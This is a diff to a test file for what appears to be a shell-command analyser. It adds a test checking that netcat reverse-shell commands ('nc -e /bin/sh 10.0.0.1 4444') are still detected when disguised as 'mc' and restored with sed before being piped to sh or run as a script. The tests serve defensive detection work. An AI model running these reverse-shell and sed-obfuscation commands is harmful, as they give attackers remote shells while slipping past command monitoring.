@@ -432,3 +432,14 @@ def test_copies_with_options_and_xargs_option_forms(text):
 ])
 def test_positional_parameters_braced_shifted_and_given_to_sh_c_or_bash_s(text):
     assert ["-e", "/bin/sh", "10.0.0.1", "4444"] in [c.args for c in reader.read(text) if c.name == "nc"]
+
+
+def test_sed_on_files_the_session_wrote_reads_and_edits_them():
+    session = Session()
+    cmds = reader.read("echo 'mc -e /bin/sh 10.0.0.1 4444' > /tmp/a.txt; sed 's/^m/n/' /tmp/a.txt | sh", session)
+    assert "nc" in [c.name for c in cmds]
+    reader.read("echo 'mc -e /bin/sh 10.0.0.1 4444' > /tmp/b.sh", session)
+    reader.read("sed -i.bak -e 's/^m/n/' /tmp/b.sh", session)  # edited in place, in a later action
+    assert session.lookup("/tmp/b.sh") == "nc -e /bin/sh 10.0.0.1 4444\n"
+    assert "nc" in names("sh /tmp/b.sh", session)
+    assert names("sed -i 's/a/b/' /etc/hosts", Session()) == ["sed"]  # a file nobody wrote: as before
